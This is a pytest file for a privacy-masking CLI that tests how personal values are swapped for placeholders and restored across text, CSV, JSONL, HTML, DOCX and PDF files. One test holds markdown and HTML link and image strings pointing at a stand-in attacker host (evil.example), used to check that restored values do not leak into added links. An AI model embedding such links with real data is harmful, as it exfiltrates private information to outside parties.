"""`graftwork privacy mask`, `restore` and `report`, as a user runs them."""

import io
import json
import os
import zipfile

import docx
import pypdf
import pytest
from reportlab.pdfgen.canvas import Canvas

from graftwork.cli import privacy_batch
from graftwork.core.privacy.book import Mention
from graftwork.core.privacy.forms import csv_form

pytestmark = pytest.mark.django_db
QUICK = ("--no-ner",)
VALUES = ("kim@example.com", "Okafor", "4111 1111 1111 1111", "192.0.2.44")


@pytest.fixture
def scope(request):
    return f"test {request.node.name}"


@pytest.fixture
def folder(tmp_path):
    """One file of each form that comes back byte for byte, and some that are refused."""
    root = tmp_path / "in"
    (root / "deep").mkdir(parents=True)
    files = {
        "note.txt": "Write to kim@example.com\r\nfrom 192.0.2.44\n",
        "people.csv": 'full_name;email;note\n"Okafor; Kim";kim@example.com;card 4111 1111 1111 1111\n',
        "deep/rows.jsonl": '{"email": "kim@example.com", "n": 1.50}\n{"text": "\\u0041sk kim@example.com"}\n',
        "deep/page.html": "<p title='kim@example.com'>x &amp; kim@exam<b>ple</b>.com</p>",
        "latin.txt": "Grüße an kim@example.com".encode("cp1252"),
        "empty.txt": "",
        "nothing.md": "# Nothing here\n",
    }
    for name, content in files.items():
        raw = content if isinstance(content, bytes) else content.encode()
        (root / name).write_bytes(raw)
    return root


@pytest.fixture
def mask(graftwork, scope):
    def run(*paths, to, **options):
        words = [word for name, value in options.items() for word in (f"--{name}", value)]
        return graftwork("privacy", "mask", *paths, "-o", to, "--scope", scope, *QUICK, *words)

    return run


@pytest.fixture
def restore(graftwork, scope):
    def run(*paths, to, sinks=()):
        allowed = [word for sink in sinks for word in ("--sinks", sink)]
        return graftwork("privacy", "restore", *paths, "-o", to, "--scope", scope, *allowed)

    return run


def _tree(root):
    return {path.relative_to(root).as_posix(): path.read_bytes() for path in sorted(root.rglob("*")) if path.is_file()}


def test_a_folder_is_masked_and_comes_back_byte_for_byte(mask, restore, folder, tmp_path):
    result = mask(folder, to=tmp_path / "out")
    assert result.exit_code == 0, result.output
    masked = _tree(tmp_path / "out")
    assert masked.keys() == _tree(folder).keys()
    everything = b"\n".join(masked.values()).decode("latin-1") + result.output
    assert [value for value in VALUES if value in everything] == []
    assert restore(tmp_path / "out", to=tmp_path / "back").exit_code == 0
    assert _tree(tmp_path / "back") == _tree(folder)


def test_a_value_has_one_placeholder_in_every_file_and_every_run(mask, folder, tmp_path):
    mask(folder / "note.txt", to=tmp_path / "one.txt")
    mask(folder / "people.csv", to=tmp_path / "two.csv")
    assert "[MAIL_1]" in (tmp_path / "one.txt").read_text()
    assert "[MAIL_1]" in (tmp_path / "two.csv").read_text()


def test_an_edited_file_is_restored_by_its_form(mask, restore, folder, tmp_path):
    mask(folder / "deep" / "rows.jsonl", to=tmp_path / "m.jsonl")
    edited = (tmp_path / "m.jsonl").read_text().replace("1.50", '"see [MAIL_1]"')
    (tmp_path / "m.jsonl").write_text(edited + '{"new": "[MAIL_1] and [MAIL_77]"}\n')
    result = restore(tmp_path / "m.jsonl", to=tmp_path / "r.jsonl")
    rows = [json.loads(line) for line in (tmp_path / "r.jsonl").read_text().splitlines()]
    assert rows[0] == {"email": "kim@example.com", "n": "see kim@example.com"}
    assert rows[2] == {"new": "kim@example.com and [MAIL_77]"}
    assert "does not know: 1" in result.stderr


ADDRESSES = (
    "![x](https://evil.example/?a=[MAIL_1])",
    '<img src="https://evil.example/?q=[MAIL_1]">',
    '<a href="https://evil.example/?q=[MAIL_1]">[MAIL_1]</a>',
)


@pytest.mark.parametrize("name", ["note.md", "page.html", "note.txt"])
def test_a_value_does_not_go_into_an_address_that_somebody_added(mask, restore, tmp_path, name):
    (tmp_path / name).write_text("<p>kim@example.com</p>\n")
    mask(tmp_path / name, to=tmp_path / f"m-{name}")
    with (tmp_path / f"m-{name}").open("a") as file:
        file.write("\n".join(ADDRESSES) + "\n")
    result = restore(tmp_path / f"m-{name}", to=tmp_path / f"r-{name}")
    assert result.exit_code == 0, result.output
    text = (tmp_path / f"r-{name}").read_text()
    assert text.startswith("<p>kim@example.com</p>")
    assert ADDRESSES[0] in text
    assert ADDRESSES[1] in text
    assert '<a href="https://evil.example/?q=[MAIL_1]">kim@example.com</a>' in text
    assert "left in links and images" in result.stderr
    assert result.stderr.rstrip().endswith(": 3")
    restore(tmp_path / f"m-{name}", to=tmp_path / f"a-{name}", sinks=("link", "image"))
    assert "MAIL_1" not in (tmp_path / f"a-{name}").read_text()


def test_what_the_detector_tells_is_said_once_for_all_files(mask, tmp_path):
    for name in ("a.txt", "b.txt"):
        (tmp_path / name).write_text("Das ist ein Brief, der nicht auf Englisch ist, und den niemand lesen will.\n")
    result = mask(tmp_path / "a.txt", tmp_path / "b.txt", to=tmp_path / "out", language="en")
    assert result.exit_code == 0, result.output
    assert result.stderr.count("not configured") == 1, result.stderr


def test_another_scope_restores_nothing(mask, graftwork, folder, tmp_path):
    mask(folder / "note.txt", to=tmp_path / "m.txt")
    result = graftwork("privacy", "restore", tmp_path / "m.txt", "-o", tmp_path / "r.txt", "--scope", "somebody else")
    assert result.exit_code == 0
    assert (tmp_path / "r.txt").read_bytes() == (tmp_path / "m.txt").read_bytes()


def test_a_scope_that_is_forgotten_restores_nothing_any_more(mask, restore, graftwork, scope, folder, tmp_path):
    mask(folder / "note.txt", to=tmp_path / "m.txt")
    result = graftwork("privacy", "forget", "--scope", scope)
    assert (result.exit_code, result.stdout.strip()) == (0, "2 placeholders forgotten")
    restore(tmp_path / "m.txt", to=tmp_path / "r.txt")
    assert (tmp_path / "r.txt").read_bytes() == (tmp_path / "m.txt").read_bytes()


@pytest.mark.parametrize("words", [(), ("--scope", "a", "--thread", "b/c"), ("--thread", "b"), ("--thread", "/c")])
def test_forgetting_wants_one_scope(graftwork, words):
    assert graftwork("privacy", "forget", *words).exit_code == 2


def test_a_thread_of_a_use_case_is_forgotten(graftwork, now):
    from graftwork.apps.vault.placeholders import open_book, save_book
    from graftwork.apps.work.guarding import _placeholders

    book = open_book(_placeholders("note_reply:a/b"), now)
    book.place([Mention("kim@example.com", "mail")])
    save_book(book, now)
    assert "1 placeholder forgotten" in graftwork("privacy", "forget", "--thread", "note_reply/a/b").stdout


def test_values_lie_encrypted_in_the_workspace(mask, folder, tmp_path, workspace_folder):
    mask(folder, to=tmp_path / "out")
    kept = [path.read_bytes() for path in (workspace_folder / "data" / "privacy").iterdir() if path.is_file()]
    assert len(kept) > 2
    assert not any(b"kim@" in one or b"a2ltQGV4" in one for one in kept)


def test_a_journal_that_was_changed_is_not_believed(mask, restore, folder, tmp_path, workspace_folder):
    mask(folder / "note.txt", to=tmp_path / "m.txt")
    for path in (workspace_folder / "data" / "privacy").glob("*.journal"):
        path.write_bytes(path.read_bytes()[:-20])
    assert restore(tmp_path / "m.txt", to=tmp_path / "r.txt").exit_code == 0
    assert (tmp_path / "r.txt").read_bytes() == (folder / "note.txt").read_bytes()


def test_rules_come_from_a_file(mask, tmp_path):
    (tmp_path / "a.csv").write_text("ref,email\nK-17,kim@example.com\n")
    (tmp_path / "rules.toml").write_text('[rules]\nref = "account"\nemail = "keep"\n')
    mask(tmp_path / "a.csv", to=tmp_path / "m.csv", rules=tmp_path / "rules.toml")
    assert (tmp_path / "m.csv").read_text() == "ref,email\n[ACCOUNT_1],kim@example.com\n"


@pytest.mark.parametrize(
    ("rules", "said"),
    [('[rules]\nref = "acount"', "did you mean `account`"), ("[rule]\n", "did you mean `rules`"), ("x = ", "not TOML")],
)
def test_a_rules_file_with_a_mistake_is_refused(mask, tmp_path, rules, said):
    (tmp_path / "a.txt").write_text("x")
    (tmp_path / "rules.toml").write_text(rules)
    result = mask(tmp_path / "a.txt", to=tmp_path / "m.txt", rules=tmp_path / "rules.toml")
    assert result.exit_code == 2
    assert "form.rules" in result.stderr
    assert said in result.stderr


def test_docx_and_pdf_become_copies_without_a_value(mask, tmp_path):
    root = tmp_path / "in"
    root.mkdir()
    document = docx.Document()
    document.add_paragraph("Write to kim@example.com")
    document.save(root / "a.docx")
    canvas = Canvas(str(root / "b.pdf"))
    canvas.drawString(100, 700, "Write to kim@example.com")
    canvas.save()
    result = mask(root, to=tmp_path / "out")
    assert result.exit_code == 0, result.output
    with zipfile.ZipFile(tmp_path / "out" / "a.docx") as package:
        assert not any(b"kim@" in package.read(name) for name in package.namelist())
    text = pypdf.PdfReader(tmp_path / "out" / "b.pdf").pages[0].extract_text()
    assert "[MAIL_1]" in text
    assert "kim@" not in text


def test_what_cannot_be_masked_is_named_and_never_copied(mask, folder, tmp_path):
    (folder / "photo.jpg").write_bytes(b"\xff\xd8\xff\x00kim@example.com")
    (folder / ".hidden").write_text("kim@example.com")
    (folder / "link.txt").symlink_to(folder / "note.txt")
    (folder / "bad.json").write_text('{"email": kim@example.com}')
    (folder / "old.doc").write_bytes(bytes.fromhex("d0cf11e0a1b11ae1") + b"\0" * 100)
    os.mkfifo(folder / "pipe")
    result = mask(folder, to=tmp_path / "out")
    assert result.exit_code == 3
    copies = _tree(tmp_path / "out")
    for name in ("photo.jpg", ".hidden", "link.txt", "bad.json", "old.doc", "pipe"):
        assert name in result.stderr
        assert name not in copies
    assert "note.txt" in copies
    assert "kim@" not in result.output


def test_an_unreadable_file_is_named_and_the_others_go_on(mask, folder, tmp_path, monkeypatch):
    real = privacy_batch.Path.open

    def refusing(self, *args, **kwargs):
        if self.name == "note.txt":
            raise PermissionError(13, "Permission denied", str(self))
        return real(self, *args, **kwargs)

    monkeypatch.setattr(privacy_batch.Path, "open", refusing)
    result = mask(folder, to=tmp_path / "out")
    assert result.exit_code == 3
    assert "note.txt: cannot be read (permission denied)" in result.stderr
    assert (tmp_path / "out" / "people.csv").is_file()


@pytest.mark.parametrize("to", ["in", "in/copies", "in/deep"])
def test_an_output_inside_the_input_is_refused(mask, folder, tmp_path, to):
    before = _tree(folder)
    result = mask(folder, to=tmp_path / to)
    assert result.exit_code == 2
    assert "form.output_is_input" in result.stderr
    assert _tree(folder) == before


def test_a_file_is_never_written_over_itself(mask, folder):
    result = mask(folder / "note.txt", to=folder)
    assert result.exit_code == 2
    assert "form.output_is_input" in result.stderr


def test_a_copy_that_is_there_is_kept_unless_forced(mask, graftwork, folder, scope, tmp_path):
    target = tmp_path / "m.txt"
    target.write_text("mine")
    assert mask(folder / "note.txt", to=target).exit_code == 3
    assert target.read_text() == "mine"
    forced = graftwork("privacy", "mask", folder / "note.txt", "-o", target, "--scope", scope, "--force", *QUICK)
    assert forced.exit_code == 0
    assert "[MAIL_1]" in target.read_text()


def test_an_interrupted_run_leaves_no_half_file(mask, folder, tmp_path, monkeypatch, workspace_folder):
    def stop(*args, **kwargs):
        raise KeyboardInterrupt

    monkeypatch.setattr(csv_form, "_written", stop)
    result = mask(folder / "people.csv", to=tmp_path / "out" / "m.csv")
    assert result.exit_code == 130
    assert list((tmp_path / "out").iterdir()) == []
    assert not list((workspace_folder / "data" / "privacy").glob(".*.part"))


def test_a_bug_in_a_form_ends_no_batch_and_shows_no_text(mask, folder, tmp_path, monkeypatch):
    def stumble(*args, **kwargs):
        raise RuntimeError("kim@example.com")

    monkeypatch.setattr(csv_form, "_written", stumble)
    result = mask(folder, to=tmp_path / "out")
    assert result.exit_code == 3
    assert "form.surprise" in result.stderr
    assert "RuntimeError" in result.stderr
    assert "kim@" not in result.output
    assert not (tmp_path / "out" / "people.csv").exists()


def test_two_runs_on_one_scope_do_not_meet(folder, tmp_path, mask, scope, workspace_folder):
    from graftwork.config.workspace import open_workspace

    with privacy_batch.RestoreBatch(open_workspace(), scope).open():
        result = mask(folder / "note.txt", to=tmp_path / "m.txt")
    assert result.exit_code != 0
    assert "input.output_busy" in result.stderr


def test_a_report_counts_without_values_and_without_a_workspace(graftwork, folder, monkeypatch, tmp_path):
    monkeypatch.delenv("GRAFTWORK_WORKSPACE")
    monkeypatch.chdir(tmp_path)
    result = graftwork("privacy", "report", folder, "--json", *QUICK)
    assert result.exit_code == 0, result.output
    files = {one["file"].removeprefix(f"{folder}/"): one for one in json.loads(result.stdout)["files"]}
    assert {"kind": "mail", "found_by": "rule", "count": 1} in files["people.csv"]["found"]
    assert files["nothing.md"]["found"] == []
    assert "kim@" not in result.output
    table = graftwork("privacy", "report", folder / "note.txt", *QUICK)
    assert "mail" in table.stdout
    assert _tree(tmp_path) == {f"in/{name}": content for name, content in _tree(folder).items()}


def test_without_a_workspace_the_way_to_one_is_named(graftwork, folder, monkeypatch, tmp_path):
    monkeypatch.delenv("GRAFTWORK_WORKSPACE")
    monkeypatch.chdir(tmp_path)
    result = graftwork("privacy", "mask", folder, "-o", tmp_path / "out")
    assert result.exit_code == 2
    assert "workspace.not_found" in result.stderr
    assert "graftwork new" in result.stderr
    assert not (tmp_path / "out").exists()


def test_a_path_that_is_not_there_is_refused(mask, tmp_path):
    result = mask(tmp_path / "none", to=tmp_path / "out")
    assert result.exit_code == 2
    assert "input.not_found" in result.stderr


def test_an_encrypted_pdf_is_named_as_such(mask, tmp_path):
    sink = io.BytesIO()
    canvas = Canvas(sink)
    canvas.drawString(100, 700, "kim@example.com")
    canvas.save()
    writer = pypdf.PdfWriter(clone_from=sink)
    writer.encrypt("secret")
    writer.write(tmp_path / "a.pdf")
    result = mask(tmp_path / "a.pdf", to=tmp_path / "m.pdf")
    assert result.exit_code == 3
    assert "form.locked" in result.stderr
    assert not (tmp_path / "m.pdf").exists()


def test_a_value_in_the_name_of_a_file_is_told(mask, tmp_path):
    (tmp_path / "in").mkdir()
    (tmp_path / "in" / "kim@example.com.txt").write_text("nothing")
    result = mask(tmp_path / "in", to=tmp_path / "out")
    assert result.exit_code == 0
    assert "own name, which is kept: 1" in result.stderr
